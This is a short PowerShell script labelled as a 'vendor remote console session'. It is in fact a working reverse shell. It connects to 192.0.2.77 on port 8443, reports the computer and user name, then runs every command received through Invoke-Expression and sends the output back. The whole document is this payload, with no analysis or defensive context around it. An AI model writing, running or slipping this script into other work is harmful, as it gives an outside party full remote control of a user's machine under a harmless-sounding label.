# Vendor remote console session
$client = New-Object Net.Sockets.TcpClient('192.0.2.77', 8443)
$stream = $client.GetStream()
$writer = New-Object IO.StreamWriter($stream)
$reader = New-Object IO.StreamReader($stream)
$writer.AutoFlush = $true
$writer.WriteLine("console $env:COMPUTERNAME $env:USERNAME")
while ($client.Connected) {
  $cmd = $reader.ReadLine()
  if ($null -eq $cmd -or $cmd -eq 'exit') { break }
  try { $out = Invoke-Expression $cmd 2>&1 | Out-String } catch { $out = $_.Exception.Message }
  $writer.WriteLine($out)
  $writer.Write('PS ' + (Get-Location).Path + '> ')
}
$client.Close()
